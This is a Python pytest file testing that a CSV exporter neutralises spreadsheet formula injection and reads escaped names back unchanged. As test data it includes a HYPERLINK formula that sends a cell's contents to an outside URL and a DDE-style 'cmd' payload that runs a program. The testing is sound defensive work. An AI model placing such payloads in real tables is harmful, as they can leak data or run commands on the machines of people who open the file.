"""Tables of verdicts: no cell is a formula in a spreadsheet, and names are read back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from focus_ray.csv_tables import COLUMNS, escape_formula, format_csv, unescape_formula
from focus_ray.data.importers.groups import _read_group_table

FORMULAS = [
    *('=HYPERLINK("https://example.org?"&A1).png', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"),
    *("\n=1+1", " =1+1", "'=1+1", "＝1+1", "a;=1+1", "a;b\t @x", "one\n-two"),
]


@pytest.mark.parametrize("name", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_table_begins_like_a_formula_however_a_spreadsheet_splits_it(name: str, delimiter: str) -> None:
    row = {"image": name, "category": name, "verdict": "normal", "error": name, "score": 0.5}
    for cells in csv.reader(io.StringIO(format_csv([row]), newline=""), delimiter=delimiter):
        assert not [cell for cell in cells if cell.strip().startswith(("=", "+", "-", "@", "＝"))]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_is_read_back_from_a_table(name: str) -> None:
    (row,) = csv.DictReader(io.StringIO(format_csv([{"image": name}]), newline=""))
    assert unescape_formula(row["image"]) == name


@given(st.text(st.sampled_from("'=+-@\t\r\n ;,\"a＝")))
def test_every_text_is_read_back(text: str) -> None:
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.parametrize("value", [-1.5, -3, 1e-9, True, None, "part-1.png", "a=b.png", "line 3/bolt_001.png", "it's"])
def test_numbers_and_ordinary_names_are_not_changed(value: Any) -> None:
    assert escape_formula(value) is value
    assert format_csv([{"score": -1.5}], COLUMNS, header=False) == ",,,-1.5,,,,,,,,,\n"


def test_a_table_of_verdicts_serves_as_a_table_of_groups(tmp_path: Path) -> None:
    (tmp_path / "table.csv").write_text(format_csv([{"image": "=1.png", "category": "-a"}]))
    assert _read_group_table(f"{tmp_path}/table.csv:category") == {"=1.png": "-a"}
